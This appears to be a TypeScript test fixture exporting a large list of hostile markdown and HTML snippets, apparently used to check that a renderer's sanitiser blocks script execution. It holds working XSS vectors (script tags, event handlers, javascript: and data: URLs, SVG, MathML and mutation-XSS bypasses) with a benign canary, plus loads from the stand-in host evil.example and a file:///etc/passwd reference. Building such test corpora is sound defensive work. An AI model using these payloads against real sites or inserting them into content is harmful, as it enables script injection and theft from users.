/** Payload that reveals execution: a dialog, a line in the console, a mark on the page. */
const RUN = "alert(1);console.log('orrery-canary');window.orreryCanary=1"
const SHORT = 'window.orreryCanary=1'

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script\n>${RUN}</script\n>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src=data:text/javascript,${SHORT}></script>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>/*\n\n*/${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `<script>${RUN}`,
  `**<script>${RUN}</script>**`,
  `# <script>${RUN}</script>`,
  `> <script>${RUN}</script>`,
  `- <script>${RUN}</script>`,
  `| <script>${RUN}</script> | b |\n| --- | --- |\n| c | <img src=x onerror="${SHORT}"> |`,
  `:::secret\n<script>${RUN}</script>\n:::`,
  `:::for <script>${RUN}</script>\nwords\n:::`,
]

const TAGS = [
  'img src=x',
  'body',
  'svg',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'iframe',
  'a href=#',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onpointerrawupdate', 'onanimationstart']
const HANDLERS = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}="${SHORT}">`))

const ADDRESSES = [
  `javascript:${SHORT}`,
  `JaVaScRiPt:${SHORT}`,
  ` javascript:${SHORT}`,
  `javascript&colon;${SHORT}`,
  `javascript&#58;${SHORT}`,
  `&#106;avascript:${SHORT}`,
  `java\tscript:${SHORT}`,
  `\u0001javascript:${SHORT}`,
  `javascript://https://example.org/%0a${SHORT}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${SHORT}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cub3JyZXJ5Q2FuYXJ5PTE8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=window.orreryCanary=1>',
  'blob:https://example.org/1',
  'file:///etc/passwd',
  '//evil.example/x',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
]
const LINKS = ADDRESSES.flatMap((address) => [
  `[press](${address})`,
  `![look](${address})`,
  `<a href="${address}">press</a>`,
]).concat([
  `[press]: javascript:${SHORT}\n\n[press]`,
  `<javascript:${SHORT}>`,
  `[press](<javascript:${SHORT}>)`,
  `[press](https://example.org "onmouseover=${SHORT}")`,
  `[press](https://example.org" onmouseover="${SHORT})`,
  `![look](image:x" onerror="${SHORT})`,
  `![" onerror="${SHORT}](image:abc)`,
  `[[javascript:${SHORT}]]`,
  `[[<img src=x onerror=${SHORT}>]]`,
  `[[star:"onclick="${SHORT}]]`,
  `[<img src=x onerror=${SHORT}>](https://example.org)`,
])

const DRAWINGS = [
  `<svg onload="${SHORT}"/>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script xlink:href="data:,${SHORT}"></script></svg>`,
  `<svg><a xlink:href="javascript:${SHORT}"><text x="9" y="9">press</text></a></svg>`,
  `<svg><animate onbegin="${SHORT}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="href" to="javascript:${SHORT}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${SHORT}'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${SHORT}"></foreignObject></svg>`,
  `<svg><style>@import 'https://evil.example/x.css'</style></svg>`,
  `<math href="javascript:${SHORT}">press</math>`,
  `<math><mtext><img src=x onerror="${SHORT}"></mtext></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${SHORT}">press</maction></math>`,
]

const STYLES = [
  `<style>body{display:none}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<p style="background:url(https://evil.example/x)">words</p>`,
  `<p style="background:url(javascript:${SHORT})">words</p>`,
  `<div style="position:fixed;inset:0;background:red">over everything</div>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${SHORT}">`,
  `<p style="width:expression(${SHORT})">words</p>`,
  `<table background="https://evil.example/x"><tr><td>words</table>`,
]

const FRAMES = [
  `<iframe src="javascript:${SHORT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${SHORT}</script>"></iframe>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<object data="javascript:${SHORT}"></object>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="javascript:${SHORT}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${SHORT}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<form action="javascript:${SHORT}"><button>press</button></form>`,
  `<button formaction="javascript:${SHORT}" autofocus>press</button>`,
  `<input type=image src=https://evil.example/x formaction="javascript:${SHORT}">`,
  `<frameset onload="${SHORT}"><frame src="javascript:${SHORT}"></frameset>`,
  `<portal src="https://evil.example"></portal>`,
  `<img src="https://evil.example/x" srcset="https://evil.example/y 2x">`,
  `<video><source src=x onerror="${SHORT}"></video>`,
  `<link rel=prefetch href="https://evil.example/x">`,
]

/** Text that mutates when it is serialised and parsed again. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${SHORT}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${SHORT}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SHORT}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${SHORT}>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<textarea></textarea><img src=x onerror=${SHORT}></textarea>`,
  `<title></title><img src=x onerror=${SHORT}></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${SHORT}>"></xmp>`,
  `<plaintext><img src=x onerror=${SHORT}>`,
  `<listing>&lt;img src=x onerror=${SHORT}&gt;</listing>`,
  `<!--<img src="--><img src=x onerror=${SHORT}//">`,
  `<![CDATA[><img src=x onerror=${SHORT}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${SHORT}>`,
  `<img src="x\` onerror=${SHORT}>`,
  `<img """><img src=x onerror="${SHORT}">">`,
  `<<img src=x onerror=${SHORT}>>`,
  `<img src=x:${SHORT} onerror=eval(src)>`,
  `<a id=x href="https://example.org" onclick="${SHORT}">press</a>`,
  `<span data-thing='"><img src=x onerror=${SHORT}>'>words</span>`,
  `<img data-picture='x" onerror="${SHORT}' alt="x">`,
  `<div data-callout data-word='secret"><script>${SHORT}</script>'>words</div>`,
  `<pre data-raw><script>${RUN}</script></pre>`,
  `<li data-checked='"><img src=x onerror=${SHORT}>'>words</li>`,
]

const MARKDOWN = [
  '`<img src=x onerror=' + SHORT + '>`',
  '```html\n<script>' + RUN + '</script>\n```',
  '    <script>' + RUN + '</script>',
  '<https://example.org/"onmouseover="' + SHORT + '>',
  'https://example.org/<script>' + RUN + '</script>',
  '[a](b)<img src=x onerror=' + SHORT + '>',
  '\\<img src=x onerror=' + SHORT + '>',
  '<img src=x\n\nonerror=' + SHORT + '>',
  '{{constructor.constructor("' + SHORT + '")()}}',
  '${' + SHORT + '}',
  '<div v-html="x" @click="' + SHORT + '">words</div>',
  '{{{ ' + SHORT + ' }}}',
]

/** Snippets that would execute or load something if a text were ever interpreted as HTML. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...DRAWINGS,
  ...STYLES,
  ...FRAMES,
  ...MUTATIONS,
  ...MARKDOWN,
]
